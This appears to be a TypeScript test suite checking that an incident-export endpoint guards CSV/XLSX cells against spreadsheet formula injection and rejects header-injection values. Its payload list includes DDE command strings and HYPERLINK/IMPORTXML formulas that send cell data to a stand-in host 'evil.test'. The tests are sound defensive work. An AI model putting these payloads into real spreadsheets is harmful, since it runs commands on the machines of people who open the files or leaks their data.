// Cells that a spreadsheet would run: written as text by the real export, and read back as they were.
import assert from 'node:assert/strict'
import { before, describe, it } from 'node:test'
import { guard, unguarded } from '#platform/transfer/formula.ts'
import { startTestServer, type TestServer } from '../setup/server.ts'

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.test/?"&A1,"click")',
  '=IMPORTXML("https://evil.test","//a")',
  '-2+3+cmd|"/C calc"!A0',
  '+cmd|"/C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u3000=1+1',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠SUM(1)',
  '−1+cmd',
  "'=1+1",
  "''=1+1",
  '=1+1",=2+2',
  '=1+1;=2+2',
  '=1\n=2',
  '%0A-3+3+cmd',
]
const HARMLESS = ['', 'a=1', "it's", '-5', '+49', '-1,234.50', '1-2', 'a\t=b', 'x@y.test', '−', '- ', "'quoted'"]

describe('[ASVS 1.2.10] a cell that begins like a formula', () => {
  it('is written with an apostrophe and read without it, whatever stands before it', () => {
    for (const cell of FORMULAS) if (!cell.startsWith('%')) assert.equal(guard(cell), `'${cell}`, JSON.stringify(cell))
    for (const cell of [...FORMULAS, ...HARMLESS])
      assert.deepEqual(unguarded([guard(cell)]), [cell], JSON.stringify(cell))
    for (const cell of ['', 'a=1', "it's", '-5', '-1,234.50', '1-2', 'x@y.test']) assert.equal(guard(cell), cell)
  })

  let server: TestServer
  before(async () => {
    server = await startTestServer()
    const { token } = server.people.agent
    for (const subject of FORMULAS) {
      const made = await server.call('POST', '/incidents', {
        token,
        body: { subject, tags: [subject.trim().slice(0, 20) || 'x'] },
      })
      assert.ok(made.status === 201 || made.status === 422, made.text)
    }
  })
  it('is no formula in any field of an export', async () => {
    const { token } = server.people.agent
    const csv = await server.call('GET', '/incidents/export?fields=subject,tags', { token })
    const cells = csv.text
      .replace(/^\ufeff/, '')
      .split('\r\n')
      .slice(1)
      .flatMap(cellsOf)
    assert.ok(cells.length > 60, `${cells.length} cells`)
    for (const cell of cells)
      assert.doesNotMatch(cell, /^[\s\u200b\ufeff]*[=+\-@＝＋－＠](?!\d+$)/, JSON.stringify(cell))
    const xlsx = await server.call('GET', '/incidents/export?format=xlsx', { token })
    assert.doesNotMatch(xlsx.text, /<f>/)
  })
  it('[ASVS 5.4.2] cannot end the header that names the file', async () => {
    const { token } = server.people.agent
    for (const odd of ['%0d%0aX-Evil:1', '";x="', 'csv%00.exe', '../../x']) {
      const answer = await server.call('GET', `/incidents/export?format=${odd}`, { token })
      assert.equal(answer.status, 400, answer.text)
      assert.equal(answer.headers.get('x-evil'), null)
    }
  })
})
/** The cells of one line as the file holds them, without the quotation marks around them. */
function cellsOf(line: string): string[] {
  return [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  )
}
